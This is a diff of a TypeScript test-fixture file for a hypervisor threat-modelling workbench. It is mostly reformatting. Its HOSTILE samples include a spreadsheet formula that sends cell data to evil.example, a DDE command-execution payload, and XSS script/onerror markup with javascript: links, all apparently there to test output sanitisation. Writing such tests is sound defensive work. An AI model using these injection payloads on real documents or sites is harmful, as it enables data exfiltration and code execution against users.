@@ -21,7 +21,7 @@ export const FIXTURE_TIME = '2026-11-28T12:00:00Z';
 /** Text an attacker might type: formulas, markup, links, script, control characters, Unicode. */
 export const HOSTILE = {
   formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  plus: '+cmd|\' /C calc\'!A0',
+  plus: "+cmd|' /C calc'!A0",
   at: '@SUM(1+1)*cmd',
   markup: '<script>alert(1)</script> <img src=x onerror=alert(2)>',
   link: '[click](javascript:alert(3)) ![x](http://evil.example/p.png)',
@@ -37,7 +37,12 @@ export interface ReportFixture {
   model: ReportModel;
 }
 
-function entry(recommendationId: string, scope: string, status: AssessmentEntry['status'], extra: Partial<AssessmentEntry> = {}): AssessmentEntry {
+function entry(
+  recommendationId: string,
+  scope: string,
+  status: AssessmentEntry['status'],
+  extra: Partial<AssessmentEntry> = {},
+): AssessmentEntry {
   return { ...emptyAssessmentEntry(recommendationId, scope, FIXTURE_TIME), status, ...extra };
 }
 
@@ -45,7 +50,14 @@ function entry(recommendationId: string, scope: string, status: AssessmentEntry[
 function withStatuses(document: WorkbenchDocument, catalog: Catalog, hostile: boolean): WorkbenchDocument {
   const applicable = assess(document, catalog).checklist.filter((i) => i.applicability === 'applicable');
   const assessment: Record<string, AssessmentEntry> = {};
-  const rotation = ['implemented', 'not-implemented', 'partially-implemented', 'risk-accepted', 'not-reviewed', 'implemented'] as const;
+  const rotation = [
+    'implemented',
+    'not-implemented',
+    'partially-implemented',
+    'risk-accepted',
+    'not-reviewed',
+    'implemented',
+  ] as const;
   applicable.forEach((item, i) => {
     const status = rotation[i % rotation.length]!;
     const text = hostile ? Object.values(HOSTILE)[i % Object.values(HOSTILE).length]! : `Reviewed item ${i}`;
@@ -53,7 +65,14 @@ function withStatuses(document: WorkbenchDocument, catalog: Catalog, hostile: bo
       justification: `Justification ${i}: ${text}`,
       owner: i % 2 === 0 ? `Owner ${text}`.slice(0, 200) : 'Platform team',
       dueDate: status === 'implemented' ? '' : `2027-0${1 + (i % 9)}-15`,
-      evidence: [{ id: `ev${i}`, kind: i % 3 === 0 ? 'link' : 'note', text: i % 3 === 0 ? 'javascript:alert(1)' : `Evidence ${text}`, addedAt: FIXTURE_TIME }],
+      evidence: [
+        {
+          id: `ev${i}`,
+          kind: i % 3 === 0 ? 'link' : 'note',
+          text: i % 3 === 0 ? 'javascript:alert(1)' : `Evidence ${text}`,
+          addedAt: FIXTURE_TIME,
+        },
+      ],
       ...(status === 'risk-accepted' ? { approver: 'CISO', approvedAt: '2026-11-01', expiresAt: '2027-06-30' } : {}),
     });
   });
@@ -61,14 +80,19 @@ function withStatuses(document: WorkbenchDocument, catalog: Catalog, hostile: bo
   const first = applicable[1];
   const component = first?.components[0];
   if (first && component) {
-    assessment[assessmentKey(first.recommendationId, component)] = entry(first.recommendationId, component, 'partially-implemented', {
-      justification: `Per component: ${HOSTILE.unicode}`,
-      owner: 'Ops',
-      dueDate: '2027-02-01',
-      comments: `Component comment ${HOSTILE.formula}`,
-      verifiedBy: 'Component verifier',
-      verifiedAt: '2026-11-20',
-    });
+    assessment[assessmentKey(first.recommendationId, component)] = entry(
+      first.recommendationId,
+      component,
+      'partially-implemented',
+      {
+        justification: `Per component: ${HOSTILE.unicode}`,
+        owner: 'Ops',
+        dueDate: '2027-02-01',
+        comments: `Component comment ${HOSTILE.formula}`,
+        verifiedBy: 'Component verifier',
+        verifiedAt: '2026-11-20',
+      },
+    );
   }
   return { ...document, assessment };
 }
@@ -93,7 +117,10 @@ export function kvmReportFixture(): ReportFixture {
   };
   const document = withStatuses(named, catalog, true);
   const assessment = assess(document, catalog);
-  const model = buildReport(document, catalog, assessment, { generatedAt: FIXTURE_TIME, generator: 'Hypervisor Threat Workbench test' });
+  const model = buildReport(document, catalog, assessment, {
+    generatedAt: FIXTURE_TIME,
+    generator: 'Hypervisor Threat Workbench test',
+  });
   return { document, catalog, assessment, model };
 }
 
@@ -103,11 +130,57 @@ export function withEndedWorkshop(document: WorkbenchDocument, catalog: Catalog)
     { id: 'p1', name: 'Ana Facilitator', role: 'facilitator' as const },
     { id: 'p2', name: `Bo ${HOSTILE.unicode}`, role: 'participant' as const },
   ];
-  const agenda = [{ id: 's1', kind: 'baseline-function' as const, baselineFunctionId: 'HY-BF2', title: 'Devices', timeboxMinutes: 30, spentSeconds: 0, items: ['HY-SR-6C'] }];
-  let doc = startWorkshop(document, { id: 'w1', title: 'Device mediation review', participants: people, agenda }, '2026-11-20T10:00:00Z');
-  doc = recordLogEntry(doc, 'w1', { id: 'l1', kind: 'decision', text: `IOMMU on for all hosts ${HOSTILE.markup}`, by: 'p2', itemId: 'HY-SR-6C', status: 'partially-implemented', owner: 'Ops', dueDate: '2027-01-31' }, '2026-11-20T10:05:00Z');
-  doc = recordLogEntry(doc, 'w1', { id: 'l2', kind: 'action', text: 'Check VFIO groups on kvm-node-01', by: 'p1', itemId: 'HY-SR-6C', owner: 'Ops', dueDate: '2027-01-15' }, '2026-11-20T10:10:00Z');
-  doc = recordLogEntry(doc, 'w1', { id: 'l3', kind: 'question', text: `Is SR-IOV used? ${HOSTILE.formula}`, by: 'p2' }, '2026-11-20T10:12:00Z');
+  const agenda = [
+    {
+      id: 's1',
+      kind: 'baseline-function' as const,
+      baselineFunctionId: 'HY-BF2',
+      title: 'Devices',
+      timeboxMinutes: 30,
+      spentSeconds: 0,
+      items: ['HY-SR-6C'],
+    },
+  ];
+  let doc = startWorkshop(
+    document,
+    { id: 'w1', title: 'Device mediation review', participants: people, agenda },
+    '2026-11-20T10:00:00Z',
+  );
+  doc = recordLogEntry(
+    doc,
+    'w1',
+    {
+      id: 'l1',
+      kind: 'decision',
+      text: `IOMMU on for all hosts ${HOSTILE.markup}`,
+      by: 'p2',
+      itemId: 'HY-SR-6C',
+      status: 'partially-implemented',
+      owner: 'Ops',
+      dueDate: '2027-01-31',
+    },
+    '2026-11-20T10:05:00Z',
+  );
+  doc = recordLogEntry(
+    doc,
+    'w1',
+    {
+      id: 'l2',
+      kind: 'action',
+      text: 'Check VFIO groups on kvm-node-01',
+      by: 'p1',
+      itemId: 'HY-SR-6C',
+      owner: 'Ops',
+      dueDate: '2027-01-15',
+    },
+    '2026-11-20T10:10:00Z',
+  );
+  doc = recordLogEntry(
+    doc,
+    'w1',
+    { id: 'l3', kind: 'question', text: `Is SR-IOV used? ${HOSTILE.formula}`, by: 'p2' },
+    '2026-11-20T10:12:00Z',
+  );
   doc = setPrivateNote(doc, 'w1', 's1', 'PRIVATE facilitator note', '2026-11-20T10:20:00Z');
   return endWorkshop(doc, 'w1', catalog, '2026-11-20T10:45:00Z');
 }
@@ -128,7 +201,12 @@ export function kvmWorkshopFixture(): ReportFixture {
  */
 export function benchReportFixture(size = 200): ReportFixture {
   const catalog = loadBundledCatalog();
-  const generated = generateBenchPlatform({ size, catalog: { id: catalog.id, version: catalog.version }, id: `benchreport${size}`, name: `Generated platform (${size} components)` });
+  const generated = generateBenchPlatform({
+    size,
+    catalog: { id: catalog.id, version: catalog.version },
+    id: `benchreport${size}`,
+    name: `Generated platform (${size} components)`,
+  });
   const document = withStatuses(generated, catalog, false);
   const assessment = assess(document, catalog);
   const model = buildReport(document, catalog, assessment, { generatedAt: FIXTURE_TIME });
@@ -141,10 +219,17 @@ export function largeReportFixture(size = 200): ReportFixture {
   const generated = generateBundledPlatform(size);
   // The generator cuts its last block at `size`; drop connections to the components cut off,
   // so the fixture is a document the app would import.
-  const connections = Object.fromEntries(Object.entries(generated.connections).filter(([, c]) => c.source in generated.components && c.target in generated.components));
-  const document = withStatuses({ ...generated, connections, name: `Generated platform (${size} components)` }, catalog, false);
+  const connections = Object.fromEntries(
+    Object.entries(generated.connections).filter(
+      ([, c]) => c.source in generated.components && c.target in generated.components,
+    ),
+  );
+  const document = withStatuses(
+    { ...generated, connections, name: `Generated platform (${size} components)` },
+    catalog,
+    false,
+  );
   const assessment = assess(document, catalog);
   const model = buildReport(document, catalog, assessment, { generatedAt: FIXTURE_TIME });
   return { document, catalog, assessment, model };
 }
-
